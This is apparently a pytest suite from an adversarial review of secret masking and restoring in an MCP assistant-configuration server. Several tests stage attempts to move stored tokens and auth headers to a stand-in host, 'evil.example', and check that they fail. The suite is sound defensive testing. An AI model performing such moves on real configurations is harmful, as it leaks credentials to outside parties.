"""Adversarial review of issue 21's third round (commit a2a31b7): secrets by name everywhere, by shape in any
text, and only real masks restored.

Each finding is a test marked xfail(strict=True) with a one-line reason, so the suite stays green while the
finding stands and turns red (XPASS) once it is fixed; the tests without a mark are what was tried and held,
kept as regression guards."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any

import pytest
from mcp import Client

from revox_mcp.config import Settings
from revox_mcp.policy import Policy
from revox_mcp.redaction import mask_text, redact, restore_secrets
from revox_mcp.sandbox import SandboxServer
from revox_mcp.sandbox.seed import SALES_QUALIFIER_ID
from revox_mcp.schemas import body_schema
from revox_mcp.secret_names import credential_item, credential_name
from revox_mcp.server import build_server
from tests.conftest import stored, text_of

pytestmark = pytest.mark.anyio
SALES = SALES_QUALIFIER_ID
SECRET = "tok-live-0123456789abcdef"  # masks as "…cdef"
EVIL = "https://evil.example"


def tool(
    name: str = "crm",
    *,
    url: str = "https://crm.example/leads",
    headers: Any = (),
    query: Any = (),
    body: str | None = None,
) -> dict[str, Any]:
    return {"name": name, "description": "Look up a lead.", "method": "GET", "url": url, "headers": list(headers),
            "query_params": list(query), "body_template": body, "input_schema": []}  # fmt: skip


@asynccontextmanager
async def client(settings: Settings, **policy: Any) -> AsyncIterator[Client]:
    rules = Policy.load(env={}, known=body_schema(), **policy) if policy else None
    async with Client(build_server(settings, rules) if rules else build_server(settings)) as c:  # type: ignore[arg-type]
        yield c


def everything(result: Any) -> str:
    """Every byte an agent sees of a tool result: its text and its structured content."""
    return text_of(result) + json.dumps(result.structured_content, ensure_ascii=False)


def restored(sent: str, original: str) -> str:
    candidate, current = {"f": sent}, {"f": original}
    restore_secrets(candidate, current)
    return candidate["f"]


# --- Exfiltration through the text-part restore ---------------------------------------------------------------
#
# A masked part of a text is restored where "the word up to it" is the same; but the word starts after any of
# `\s " ' ( ) < > [ ] ,`, all of which a URL may hold. So the same masked URL, quoted inside an attacker's URL
# after one of them, is the "same place": the stored token is restored into a URL that calls the attacker.


@pytest.mark.parametrize("glue", ["(", ",", "[", "'"])
def test_a_token_is_not_restored_inside_another_hosts_url(glue: str) -> None:
    original = f"https://api.good.example/v1?token={SECRET}"
    sent = f"{EVIL}/collect?u={glue}{mask_text(original)}"
    assert sent.endswith("?token=…cdef")
    assert SECRET not in restored(sent, original)


def test_userinfo_is_not_restored_inside_another_hosts_url() -> None:
    original = f"https://ops:{SECRET}@api.good.example/x"
    sent = f"{EVIL}/(https://…@api.good.example/x"
    assert SECRET not in restored(sent, original)


def test_a_token_is_not_restored_after_a_long_path_at_another_host() -> None:
    path = "/" + "a" * 2_100
    original = f"https://api.good.example{path}?token={SECRET}"
    sent = f"{EVIL}{path}?token=…cdef"
    assert SECRET not in restored(sent, original)


async def test_webhook_token_is_not_moved_to_an_attacker_url_over_mcp(
    sandbox: SandboxServer, settings: Settings
) -> None:
    sandbox.store.update(SALES, {"webhook_url": f"https://hooks.good.example/in?token={SECRET}"})
    async with client(settings) as c:
        read = await c.call_tool("get_assistant", {"id": SALES, "fields": ["webhook_url"]})
        shown = read.structured_content["assistant"]["webhook_url"]  # type: ignore[index]
        assert SECRET not in everything(read) and shown.endswith("token=…cdef")
        result = await c.call_tool("update_assistant", {"id": SALES, "patch": {"webhook_url": f"{EVIL}/c?u=({shown}"}})
    assert not result.is_error, text_of(result)
    assert SECRET not in stored(sandbox, SALES)["webhook_url"]


def test_a_token_at_the_same_place_is_still_restored() -> None:
    original = f"Book at https://api.good.example/v1?token={SECRET} today."
    sent = mask_text(original).replace("Book at", "Please book at")
    assert restored(sent, original) == original.replace("Book at", "Please book at")


def test_a_token_at_another_host_or_parameter_is_not_restored() -> None:
    original = f"https://api.good.example/v1?token={SECRET}"
    for sent in (f"{EVIL}/v1?token=…cdef", "https://api.good.example/v1?access_token=…cdef",
                 "https://api.good.example.evil.example/v1?token=…cdef",
                 f"{EVIL}/?next=https://api.good.example/v1?token=…cdef"):  # fmt: skip
        assert SECRET not in restored(sent, original), sent


def test_userinfo_at_another_host_is_not_restored() -> None:
    original = f"https://ops:{SECRET}@api.good.example/x"
    for sent in ("https://…@evil.example/x", "https://…@api.good.example.evil.example/x",
                 "https://…@api.good.example:444/x", "https://…@api.good.example@evil.example/x"):  # fmt: skip
        assert SECRET not in restored(sent, original), sent


# --- Edits on the stored text move a secret out of its masked shape --------------------------------------------
#
# replace_text is applied to the stored text, secrets and all. An edit that never names the secret can still
# rename what is around it (the parameter's name, the header's name) or put "…" into it, and the next answer
# shows the stored secret in clear: mask() returns any value holding "…" as it is.


async def edit_a_stored_link(sandbox: SandboxServer, settings: Settings, replace: str) -> tuple[Any, Any]:
    """replace_text of `?token=` in a stored prompt holding a token: the write's answer, then a read."""
    sandbox.store.update(SALES, {"prompt": f"Send callers to https://book.example/s?token={SECRET} now."})
    edit = {"op": "replace_text", "field": "prompt", "find": "?token=", "replace": replace}
    async with client(settings) as c:
        result = await c.call_tool("update_assistant", {"id": SALES, "edits": [edit]})
        read = await c.call_tool("get_assistant", {"id": SALES, "fields": ["prompt"]})
    return result, read


async def test_renaming_the_parameter_around_a_stored_token_does_not_show_it(
    sandbox: SandboxServer, settings: Settings
) -> None:
    result, read = await edit_a_stored_link(sandbox, settings, "?tokn=")
    # Refused, naming the field: the renamed text would show the token on every read.
    assert result.is_error and "result.prompt" in text_of(result), text_of(result)
    assert SECRET not in everything(result)
    assert SECRET not in everything(read)


async def test_an_ellipsis_put_before_a_stored_token_does_not_unmask_it(
    sandbox: SandboxServer, settings: Settings
) -> None:
    result, read = await edit_a_stored_link(sandbox, settings, "?token=…")
    assert not result.is_error, text_of(result)
    assert SECRET not in everything(result) and SECRET not in everything(read)


@pytest.mark.parametrize(
    "value",
    [
        {"llm_model": {"type": "custom", "api_url": "https://llm.example/v1", "api_key": f"…{SECRET}",
                       "model_name": "m"}},
        {"prompt": f"Use this line:\nX-Api-Key: {SECRET} (rotated…)\n"},
        {"prompt": f'Body: {{"password": "{SECRET}…"}}'},
    ],
    ids=["api_key holding …", "header line ending in …", "JSON password ending in …"],
)  # fmt: skip
def test_a_secret_holding_an_ellipsis_is_masked(value: dict[str, Any]) -> None:
    assert SECRET not in json.dumps(redact(value), ensure_ascii=False)


# --- Secret shapes in a text that are not masked ---------------------------------------------------------------


@pytest.mark.parametrize("quote", ['"', "'"])
def test_a_curl_header_in_a_text_is_masked(quote: str) -> None:
    assert SECRET not in mask_text(f"Look it up with: curl -H {quote}X-Api-Key: {SECRET}{quote} https://api.example/v1")


@pytest.mark.parametrize(
    "text",
    [f'API_KEY="{SECRET}"', f"export API_KEY='{SECRET}'", f'api_key = "{SECRET}"', f"{{'api_key': '{SECRET}'}}",
     f'POST /v1\nAuthorization: Token token="{SECRET}"\n', f'Authorization: OAuth oauth_signature="{SECRET}"'],
    ids=["dotenv quoted", "shell single-quoted", "toml spaced", "python dict", "rails Token token=", "oauth1 header"],
)  # fmt: skip
def test_a_quoted_assignment_is_masked(text: str) -> None:
    assert SECRET not in mask_text(text)


@pytest.mark.parametrize("name", ["Password", "password", "token", "apikey", "apiKey", "Secret"])
def test_a_one_word_credential_line_is_masked(name: str) -> None:
    assert SECRET not in mask_text(f"For the staff portal:\n{name}: {SECRET}\nThanks.")


@pytest.mark.parametrize("tag", ["Password", "Authorization", "api_key", "SessionToken"])
def test_an_xml_credential_element_is_masked(tag: str) -> None:
    body = (
        f"<soap:Envelope><soap:Body><Login><User>ops</User><{tag}>{SECRET}</{tag}></Login></soap:Body></soap:Envelope>"
    )
    assert SECRET not in mask_text(body)


@pytest.mark.parametrize(
    "url",
    [f"https://hooks.slack.com/services/T0AAAAAAA/B0BBBBBBB/{SECRET}",
     f"https://discord.com/api/webhooks/123456789012345678/{SECRET}",
     f"https://api.telegram.org/bot123456789:{SECRET}/sendMessage"],
    ids=["slack", "discord", "telegram"],
)  # fmt: skip
def test_a_credential_in_a_webhook_path_is_masked(url: str) -> None:
    assert SECRET not in mask_text(url)


async def test_a_stored_slack_webhook_url_is_not_shown(sandbox: SandboxServer, settings: Settings) -> None:
    sandbox.store.update(SALES, {"webhook_url": f"https://hooks.slack.com/services/T0AAAAAAA/B0BBBBBBB/{SECRET}"})
    async with client(settings) as c:
        read = await c.call_tool("get_assistant", {"id": SALES, "fields": ["webhook_url"]})
    assert SECRET not in everything(read)


async def test_a_stored_curl_header_in_a_faq_answer_is_not_shown(sandbox: SandboxServer, settings: Settings) -> None:
    faq = [
        {"question": "How do staff check a lead?", "answer": f'Run curl -H "X-Api-Key: {SECRET}" https://crm.example'}
    ]
    sandbox.store.update(SALES, {"faq_items": faq})
    async with client(settings) as c:
        read = await c.call_tool("get_assistant", {"id": SALES, "fields": ["faq_items"]})
        resource = await c.read_resource(f"revox://assistants/{SALES}")  # type: ignore[arg-type]
    assert SECRET not in everything(read)
    assert SECRET not in json.dumps([getattr(r, "text", "") for r in resource.contents])


@pytest.mark.parametrize("name", ["api%5Fkey", "%6Bey", "authkey", "passkey", "appkey", "userkey"])
def test_a_credential_parameter_spelled_otherwise_is_masked(name: str) -> None:
    assert SECRET not in mask_text(f"https://api.example/v1?{name}={SECRET}")


def test_the_shapes_the_commit_names_are_masked() -> None:
    for text in (f"https://h.example/a#access_token={SECRET}", f"https://h.example/b;jsessionid={SECRET}",
                 f"X-Api-Key:{SECRET}", f"X-API-KEY\t: {SECRET}", f"Cookie: a={SECRET}", f'{{"apiKey" : "{SECRET}"}}',
                 f"?X-Amz-Signature={SECRET}&X-Amz-Credential=AKIA/x", f"?X-Amz-Security-Token={SECRET}",
                 f"https://a.blob.core.windows.net/c?sv=1&sig={SECRET}", f"?key={SECRET}", f"?hapikey={SECRET}",
                 f"Ocp-Apim-Subscription-Key: {SECRET}", f"Server=x;Password={SECRET};", f"AccountKey={SECRET}",
                 f"mysql://root:{SECRET}@db.example/x", f"redis://:{SECRET}@cache:6379", f"HTTPS://U:{SECRET}@H/",
                 f"jdbc:postgresql://h/db?user=u&password={SECRET}", f'"Authorization": "Bearer {SECRET}"',
                 f"?next=https://x.example/?token={SECRET}"):  # fmt: skip
        assert SECRET not in mask_text(text), text


# --- Credential names missed in structured values ---------------------------------------------------------------


@pytest.mark.parametrize("name", ["auth_key", "write_key", "subscription_key", "license_key", "master_key", "hmac_key"])
def test_a_key_field_of_an_unknown_object_is_a_secret(name: str) -> None:
    assert credential_name(name) or SECRET not in json.dumps(redact({"integration": {name: SECRET}}))


def test_a_header_map_in_an_unknown_object_is_masked() -> None:
    value = {"webhook": {"headers": {"Ocp-Apim-Subscription-Key": SECRET, "X-Auth-Key": SECRET[::-1]}}}
    shown = json.dumps(redact(value))
    assert SECRET not in shown and SECRET[::-1] not in shown


def test_a_name_value_header_entry_is_masked() -> None:
    assert SECRET not in json.dumps(redact({"webhook": {"headers": [{"name": "X-Api-Key", "value": SECRET}]}}))


def test_a_secret_entry_with_a_structured_value_is_masked() -> None:
    assert SECRET not in json.dumps(redact({"webhook": {"headers": [{"key": "X-Api-Key", "value": [SECRET]}]}}))


def test_a_numeric_password_is_masked() -> None:
    assert "90817263544536" not in json.dumps(redact({"pbx": {"password": 90817263544536}}))


def test_a_masked_numeric_password_sent_back_restores_the_number() -> None:
    current = {"pbx": {"password": 90817263544536, "pin": 1234}}
    candidate = redact(current)
    assert restore_secrets(candidate, current) == [] and candidate == current


async def test_a_stored_header_map_is_not_shown(sandbox: SandboxServer, settings: Settings) -> None:
    sandbox.store.update(SALES, {"hubspot": {"headers": {"Ocp-Apim-Subscription-Key": SECRET}}})
    async with client(settings) as c:
        read = await c.call_tool("get_assistant", {"id": SALES})
    assert SECRET not in everything(read)


def test_secret_names_that_hold() -> None:
    for name in ("X-Amz-Signature", "X-Amz-Credential", "X-Amz-Security-Token", "Ocp-Apim-Subscription-Key", "sig",
                 "key", "hapikey", "X-Goog-Api-Key", "X-Shopify-Access-Token", "PRIVATE-TOKEN", "Stripe-Signature",
                 "X-Twilio-Signature", "x-hub-signature-256", "refresh_token", "id_token", "JSESSIONID",
                 "ASP.NET_SessionId", "SharedAccessSignature", "X-RapidAPI-Key", "Proxy-Authorization"):  # fmt: skip
        assert credential_item(name), name
    for name in ("access_token", "client_secret", "apiKey", "secret_access_key", "bot_token", "Authorization"):
        assert credential_name(name), name
    # Settings, not secrets.
    for name in ("max_tokens", "num_tokens", "tokenizer", "keyword", "client_id", "author", "passage", "design",
                 "compass", "monkey", "keyboard", "access_key_id"):  # fmt: skip
        assert not credential_item(name) and not credential_name(name), name
    for name in ("token_url", "auth_type", "session_timeout", "cookie_domain", "password_reset_url"):
        assert not credential_name(name), name


@pytest.mark.parametrize(
    "value",
    [{"x": {"X-Api-Key": SECRET}}, {"x": [{"key": "X-Api-Key", "value": SECRET}]}, {"x": {"auth": {"user": SECRET}}},
     {"x": [[{"key": "Authorization", "value": f"Bearer {SECRET}"}]]}, {"x": {"pass": SECRET}}],
)  # fmt: skip
def test_structured_secrets_that_hold(value: dict[str, Any]) -> None:
    assert SECRET not in json.dumps(redact(value))


# --- Restores that move a secret or write a mask silently -------------------------------------------------------
#
# A JSON value, a header line's value and an Authorization value have an empty "word up to it" (a quote, a
# space or a line start before them), so their place is only their mask: a short secret (all of them "…")
# or one with the same last four characters goes to whichever such part comes first.


def test_a_removed_header_line_does_not_give_its_secret_to_the_next() -> None:
    original = "Staff lines:\nX-Api-Key: apikey1234\nX-Admin-Pass: adminpw99\n"
    sent = mask_text(original).replace("X-Api-Key: …\n", "")
    assert restored(sent, original) != "Staff lines:\nX-Admin-Pass: apikey1234\n"


def test_a_removed_json_secret_does_not_give_its_value_to_the_next() -> None:
    original = '{"user": "{{u}}", "api_key": "apikey1234", "password": "adminpw99"}'
    sent = mask_text(original).replace('"api_key": "…", ', "")
    assert "apikey1234" not in restored(sent, original)


def test_a_json_secret_is_not_restored_under_another_name() -> None:
    original = f'{{"api_key": "{SECRET}", "q": "{{{{q}}}}"}}'
    sent = '{"api_key": "{{k}}", "q": "{{q}}", "note": "Authorization: Bearer …cdef"}'
    assert SECRET not in restored(sent, original)


async def test_a_short_token_lost_by_an_edit_of_its_url_is_warned(sandbox: SandboxServer, settings: Settings) -> None:
    sandbox.store.update(SALES, {"webhook_url": "https://hooks.good.example/in?token=short1234"})
    async with client(settings) as c:
        read = await c.call_tool("get_assistant", {"id": SALES, "fields": ["webhook_url"]})
        shown = read.structured_content["assistant"]["webhook_url"]  # type: ignore[index]
        assert shown == "https://hooks.good.example/in?token=…"
        result = await c.call_tool(
            "update_assistant", {"id": SALES, "patch": {"webhook_url": shown.replace("/in?", "/calls?")}}
        )
    assert not result.is_error, text_of(result)
    lost = stored(sandbox, SALES)["webhook_url"] == "https://hooks.good.example/calls?token=…"
    assert not lost or "masked secret" in text_of(result), text_of(result)


async def test_a_revert_of_a_rotation_between_like_masked_keys_is_refused(
    sandbox: SandboxServer, tmp_path: Any
) -> None:
    from tests.conftest import fast_settings

    def llm(key: str) -> dict[str, Any]:
        return {"type": "custom", "api_url": "https://llm.example/v1", "api_key": key, "model_name": "m"}

    sandbox.store.update(SALES, {"llm_model": llm("old-key-1")})
    settings = fast_settings(sandbox, journal_path=tmp_path / "journal.db")
    async with client(settings) as c:
        change = await c.call_tool("update_assistant", {"id": SALES, "patch": {"llm_model": llm("new-key-2")}})
        assert not change.is_error, text_of(change)
        revert = await c.call_tool("revert_change", {"change_id": change.structured_content["change_id"]})  # type: ignore[index]
    key = stored(sandbox, SALES)["llm_model"]["api_key"]
    # Either the old key is back, or the revert says it cannot restore it.
    assert key == "old-key-1" or revert.is_error, (key, text_of(revert))


def test_a_mask_of_the_stored_secret_at_its_place_is_restored_and_others_reported() -> None:
    current = {"custom_tools": [tool(headers=[{"key": "X-Api-Key", "value": SECRET}])],
               "llm_model": {"type": "custom", "api_key": SECRET}}  # fmt: skip
    candidate = {"custom_tools": [tool(headers=[{"key": "X-Api-Key", "value": "…cdef"}]),
                                  tool("erp", headers=[{"key": "X-Api-Key", "value": "…cdef"}])],
                 "llm_model": {"type": "custom", "api_key": "…cdef"}}  # fmt: skip
    left = restore_secrets(candidate, current)
    assert candidate["custom_tools"][0]["headers"][0]["value"] == SECRET
    assert candidate["llm_model"]["api_key"] == SECRET
    assert candidate["custom_tools"][1]["headers"][0]["value"] == "…cdef"
    assert left == [(("custom_tools", 1, "headers", 0, "value"), "…cdef")]


# --- Where a restored secret goes: the destination changes, the mask is kept ------------------------------------


async def test_a_masked_header_is_not_restored_when_its_tool_calls_another_host(
    sandbox: SandboxServer, settings: Settings
) -> None:
    sandbox.store.update(SALES, {"custom_tools": [tool(headers=[{"key": "X-Api-Key", "value": SECRET}])]})
    async with client(settings) as c:
        read = await c.call_tool("get_assistant", {"id": SALES, "fields": ["custom_tools"]})
        shown = read.structured_content["assistant"]["custom_tools"]  # type: ignore[index]
        moved = [{**shown[0], "url": f"{EVIL}/leads"}]
        await c.call_tool("update_assistant", {"id": SALES, "patch": {"custom_tools": moved}})
    after = stored(sandbox, SALES)["custom_tools"][0]
    # The text rule already refuses a token at another host; a header sent to another host is the same move.
    assert not (after["url"].startswith(EVIL) and after["headers"][0]["value"] == SECRET)


async def test_denying_a_body_template_denies_moving_its_secret(sandbox: SandboxServer, settings: Settings) -> None:
    body = f'{{"api_key": "{SECRET}", "lead": "{{{{lead}}}}"}}'
    sandbox.store.update(SALES, {"custom_tools": [tool(body=body)]})
    async with client(settings, deny="custom_tools.body_template") as c:
        read = await c.call_tool("get_assistant", {"id": SALES, "fields": ["custom_tools"]})
        shown = read.structured_content["assistant"]["custom_tools"]  # type: ignore[index]
        result = await c.call_tool(
            "update_assistant", {"id": SALES, "patch": {"custom_tools": [{**shown[0], "url": f"{EVIL}/leads"}]}}
        )
    assert result.is_error and "operator policy" in text_of(result), text_of(result)


async def test_denying_urls_keeps_each_secret_with_its_host(sandbox: SandboxServer, settings: Settings) -> None:
    tools = [tool("crm", url="https://crm.example/leads", headers=[{"key": "X-Api-Key", "value": SECRET}]),
             tool("erp", url="https://erp.example/orders",
                  headers=[{"key": "X-Api-Key", "value": "erp-live-secret-9876"}])]  # fmt: skip
    sandbox.store.update(SALES, {"custom_tools": tools})
    async with client(settings, deny="custom_tools.url") as c:
        read = await c.call_tool("get_assistant", {"id": SALES, "fields": ["custom_tools"]})
        shown = read.structured_content["assistant"]["custom_tools"]  # type: ignore[index]
        swapped = [{**shown[0], "name": "erp", "headers": shown[1]["headers"]},
                   {**shown[1], "name": "crm", "headers": shown[0]["headers"]}]  # fmt: skip
        await c.call_tool("update_assistant", {"id": SALES, "patch": {"custom_tools": swapped}})
    after = {t["url"]: t["headers"][0]["value"] for t in stored(sandbox, SALES)["custom_tools"]}
    assert after["https://crm.example/leads"] == SECRET, after


async def test_denying_headers_denies_moving_them(sandbox: SandboxServer, settings: Settings) -> None:
    sandbox.store.update(SALES, {"custom_tools": [tool(headers=[{"key": "X-Api-Key", "value": SECRET}])]})
    async with client(settings, deny="custom_tools.headers.value") as c:
        read = await c.call_tool("get_assistant", {"id": SALES, "fields": ["custom_tools"]})
        shown = read.structured_content["assistant"]["custom_tools"]  # type: ignore[index]
        moved = await c.call_tool(
            "update_assistant", {"id": SALES, "patch": {"custom_tools": [{**shown[0], "url": f"{EVIL}/leads"}]}}
        )
        renamed = await c.call_tool(
            "update_assistant", {"id": SALES, "patch": {"custom_tools": [{**shown[0], "name": "crm_two"}]}}
        )
    assert moved.is_error and "operator policy" in text_of(moved), text_of(moved)
    assert renamed.is_error or stored(sandbox, SALES)["custom_tools"][0]["headers"][0]["value"] == SECRET
    assert stored(sandbox, SALES)["custom_tools"][0]["url"] == "https://crm.example/leads"


# --- A secret an agent sends, quoted in the change's reason -----------------------------------------------------


async def test_a_sent_secret_quoted_in_the_reason_is_masked(sandbox: SandboxServer, journal_on: dict[str, Any]) -> None:
    from tests.conftest import fast_settings

    new = "sk-live-NEWKEY-0123456789wxyz"
    llm = {"type": "custom", "api_url": "https://llm.example/v1", "api_key": new, "model_name": "m"}
    async with client(fast_settings(sandbox, **journal_on)) as c:
        result = await c.call_tool(
            "update_assistant", {"id": SALES, "patch": {"llm_model": llm}, "reason": f"rotate to {new} per OPS-12"}
        )
        assert not result.is_error and new not in everything(result), text_of(result)
        listed = await c.call_tool("list_changes", {})
        mine = await c.call_tool("list_changes", {"assistant_id": SALES})
    assert new not in everything(listed)
    assert new not in everything(mine)


# --- Cost of restoring masks ------------------------------------------------------------------------------------
#
# _part_key looks up to 2,000 characters back for each secret part (and collects every word end there), on
# both the stored and the sent text, on the event loop (writer._unmask_secrets is not run in a thread). A
# read-modify-write of a text dense in secrets costs seconds per MiB.


def test_restoring_a_secret_dense_text_is_fast() -> None:
    original = "".join(f"X-Api-Key: k{i:09d}\n" for i in range(10_000))  # 220 KB
    sent = "Edited.\n" + mask_text(original)
    assert restored(sent, original) == "Edited.\n" + original
    # The target is 0.3 s per MiB (0.066 s here); allowed 4.5 times that on a noisy machine.


def test_restoring_a_token_dense_url_is_fast() -> None:
    original = "https://a.example/?" + "&".join("token=abcdefgh" for _ in range(25_000))  # 375 KB
    sent = mask_text(original) + " edited"
    assert restored(sent, original) == original + " edited"


def test_restoring_a_run_of_short_tokens_is_fast() -> None:
    original = " token=a" * 25_000  # 200 KB: a patch string's bound; every part has the same place and mask
    sent = mask_text(original) + " edited"
    assert restored(sent, original) == original + " edited"


def test_masking_a_secret_dense_text_is_fast() -> None:
    text = "".join(f"X-Api-Key: k{i:09d}\n" for i in range(50_000))  # 1.1 MB
    assert "k000000001" not in mask_text(text)


# --- False positives that damage a read-modify-write ------------------------------------------------------------


def test_settings_lines_in_a_prompt_survive_removing_one() -> None:
    original = "Rules:\nSession-Length: 30 minutes\nAuth-Required: yes\nBe brief.\n"
    shown = mask_text(original)
    edited = shown.replace(shown.splitlines()[1] + "\n", "")
    assert restored(edited, original) == "Rules:\nAuth-Required: yes\nBe brief.\n"


@pytest.mark.xfail(
    strict=True,
    reason="review: a link's ?auth=google is masked (auth names a credential); moving the link's domain "
    "now warns, but a secret is never restored at another host, so the value is lost",
)
async def test_a_non_secret_parameter_survives_an_edit_of_its_link(sandbox: SandboxServer, settings: Settings) -> None:
    faq = [{"question": "Where do I sign up?", "answer": "At https://app.example.com/signup?auth=google today."}]
    sandbox.store.update(SALES, {"faq_items": faq})
    async with client(settings) as c:
        read = await c.call_tool("get_assistant", {"id": SALES, "fields": ["faq_items"]})
        shown = read.structured_content["assistant"]["faq_items"]  # type: ignore[index]
        moved = [{"question": shown[0]["question"], "answer": shown[0]["answer"].replace("app.", "portal.")}]
        result = await c.call_tool("update_assistant", {"id": SALES, "patch": {"faq_items": moved}})
    assert not result.is_error, text_of(result)
    assert stored(sandbox, SALES)["faq_items"][0]["answer"] == "At https://portal.example.com/signup?auth=google today."


async def test_a_read_written_back_whole_changes_nothing(sandbox: SandboxServer, settings: Settings) -> None:
    """Every secret shape and a few look-alikes, stored; get_assistant's read sent back as it is writes nothing."""
    planted = {
        "prompt": f"Book at https://book.example/s?access_token={SECRET}.\nX-Api-Key: {SECRET[::-1]}\n"
        "Session-Length: 30 minutes\nhttps://ops:pw-0123456789ab@hooks.example/x\n",
        "webhook_url": f"https://hooks.example/in?token={SECRET}&sig=short",
        "custom_tools": [tool(headers=[{"key": "Authorization", "value": f"Bearer {SECRET}"}],
                              query=[{"key": "key", "value": "shortkey"}],
                              body=f'{{"api_key": "{SECRET}", "password": "pw", "lead": "{{{{lead}}}}"}}')],
    }  # fmt: skip
    sandbox.store.update(SALES, planted)
    before = stored(sandbox, SALES)
    async with client(settings) as c:
        read = await c.call_tool("get_assistant", {"id": SALES, "fields": list(planted)})
        shown = read.structured_content["assistant"]  # type: ignore[index]
        assert SECRET not in everything(read) and SECRET[::-1] not in everything(read)
        result = await c.call_tool("update_assistant", {"id": SALES, "patch": {f: shown[f] for f in planted}})
    assert not result.is_error and "shape of a masked secret" not in text_of(result), text_of(result)
    after = stored(sandbox, SALES)
    assert {f: after[f] for f in planted} == {f: before[f] for f in planted}


# --- Pages of a long text ---------------------------------------------------------------------------------------
#
# get_assistant's offset/limit pages a text by slicing the stored text and masking the slice: a page that starts
# inside a secret (or right at it, after its name) has no name before it, so the secret is shown in clear. Any
# reader, a read-only person included, reads every stored text secret this way.


@pytest.mark.parametrize("into", [0, 3])
async def test_a_page_starting_inside_a_secret_does_not_show_it(
    sandbox: SandboxServer, settings: Settings, into: int
) -> None:
    prompt = "Be kind. " * 50 + f"Book at https://book.example/s?access_token={SECRET} now. " + "Be brief. " * 50
    sandbox.store.update(SALES, {"prompt": prompt})
    at = prompt.index(SECRET) + into
    async with client(settings) as c:
        page = await c.call_tool("get_assistant", {"id": SALES, "fields": ["prompt"], "offset": at, "limit": 200})
    assert not page.is_error, text_of(page)
    assert SECRET[into:] not in everything(page)


async def test_a_page_ending_inside_a_secret_does_not_show_it(sandbox: SandboxServer, settings: Settings) -> None:
    prompt = "Be kind. " * 50 + f"Book at https://book.example/s?access_token={SECRET} now. " + "Be brief. " * 50
    sandbox.store.update(SALES, {"prompt": prompt})
    async with client(settings) as c:
        for end in (prompt.index(SECRET) + 14, prompt.index(SECRET) + len(SECRET)):
            page = await c.call_tool("get_assistant", {"id": SALES, "fields": ["prompt"], "offset": 0, "limit": end})
            assert SECRET[:12] not in everything(page)


# --- The quick pre-test loses the start of a text ---------------------------------------------------------------
#
# may_hold_secrets dumps a dict or list to JSON and scans the dump: there a string's first character follows a
# quote, not the start of a text, so a header line or a parameter that opens a string (`X-Api-Key: ...`,
# `api_key=...&q=...`, a form-encoded body template) matches nothing, and redact() returns the value as it is.
# A text alone is scanned as itself and masked; inside any field it is not.


@pytest.mark.parametrize(
    "text",
    [f"X-Api-Key: {SECRET}\nBe kind.", f"api_key={SECRET}&lead={{{{lead}}}}", f"token={SECRET}"],
    ids=["header line first", "form body", "param first"],
)  # fmt: skip
def test_a_field_starting_with_a_secret_shape_is_masked(text: str) -> None:
    assert SECRET not in mask_text(text)  # masked alone
    assert SECRET not in json.dumps(redact({"prompt": text}))
    assert SECRET not in json.dumps(redact([{"answer": text}]))


async def test_a_stored_form_body_template_is_not_shown(sandbox: SandboxServer, settings: Settings) -> None:
    sandbox.store.update(SALES, {"custom_tools": [tool(body=f"api_key={SECRET}&lead={{{{lead}}}}")]})
    async with client(settings) as c:
        read = await c.call_tool("get_assistant", {"id": SALES, "fields": ["custom_tools"]})
        resource = await c.read_resource(f"revox://assistants/{SALES}")  # type: ignore[arg-type]
    assert SECRET not in everything(read)
    assert SECRET not in json.dumps([getattr(r, "text", "") for r in resource.contents])


async def test_a_stored_prompt_opening_with_a_header_line_is_not_shown(
    sandbox: SandboxServer, settings: Settings
) -> None:
    sandbox.store.update(SALES, {"prompt": f"X-Api-Key: {SECRET}\nUse it for the CRM."})
    async with client(settings) as c:
        read = await c.call_tool("get_assistant", {"id": SALES, "fields": ["prompt"]})
    assert SECRET not in everything(read)


async def test_an_edit_that_fills_in_a_secret_is_journalled_masked(
    sandbox: SandboxServer, journal_on: dict[str, Any]
) -> None:
    from tests.conftest import fast_settings

    new = "NEWSECRET-0123456789wxyz"
    sandbox.store.update(SALES, {"prompt": "Staff header:\nX-Api-Key: {{key}}\nBe kind."})
    async with client(fast_settings(sandbox, **journal_on)) as c:
        edit = {"op": "replace_text", "field": "prompt", "find": "{{key}}", "replace": new}
        result = await c.call_tool("update_assistant", {"id": SALES, "edits": [edit]})
        assert not result.is_error and new not in everything(result), text_of(result)
        listed = await c.call_tool("list_changes", {"change_id": result.structured_content["change_id"]})  # type: ignore[index]
    assert new not in everything(listed)
    assert new not in journal_rows(journal_on)


def journal_rows(journal_on: dict[str, Any]) -> str:
    """Every raw row of the journal's tables, as text."""
    if "journal_path" in journal_on:
        import sqlite3

        con = sqlite3.connect(journal_on["journal_path"])
        tables = [r[0] for r in con.execute("select name from sqlite_master where type='table'")]
        return repr([con.execute(f"select * from {t}").fetchall() for t in tables])
    import psycopg

    with psycopg.connect(journal_on["journal_url"]) as con:
        tables = [r[0] for r in con.execute("select tablename from pg_tables where schemaname = 'public'")]
        return repr([con.execute(f"select * from {t}").fetchall() for t in tables])  # type: ignore[arg-type]


# --- Masks moved to another place: reported, never restored ----------------------------------------------------


async def test_a_masked_url_copied_into_another_field_is_not_restored(
    sandbox: SandboxServer, settings: Settings
) -> None:
    sandbox.store.update(
        SALES,
        {"webhook_url": f"https://hooks.good.example/in?token={SECRET}",
         "custom_tools": [tool(headers=[{"key": "X-Api-Key", "value": SECRET[::-1]}])]},
    )  # fmt: skip
    async with client(settings) as c:
        read = await c.call_tool("get_assistant", {"id": SALES, "fields": ["webhook_url", "custom_tools"]})
        shown = read.structured_content["assistant"]  # type: ignore[index]
        header_mask = shown["custom_tools"][0]["headers"][0]["value"]
        patch = {
            "prompt": f"Post results to {shown['webhook_url']}.",
            "precall_lookup_url": shown["webhook_url"].replace("/in?", "/{{phone}}?"),
            "custom_tools": [
                shown["custom_tools"][0],
                tool("crm_copy", url=f"{EVIL}/x", headers=[{"key": "X-Api-Key", "value": header_mask}]),
                tool("crm_query", query=[{"key": "X-Api-Key", "value": header_mask}]),
            ],
        }
        result = await c.call_tool("update_assistant", {"id": SALES, "patch": patch, "dry_run": True})
        written = await c.call_tool("update_assistant", {"id": SALES, "patch": patch})
    assert not result.is_error and "shape of a masked secret" in text_of(result), text_of(result)
    after = stored(sandbox, SALES)
    assert SECRET not in json.dumps(after["prompt"]) and SECRET not in json.dumps(after["precall_lookup_url"])
    assert SECRET[::-1] not in json.dumps(after["custom_tools"][1:]), text_of(written)
    assert after["custom_tools"][0]["headers"][0]["value"] == SECRET[::-1]


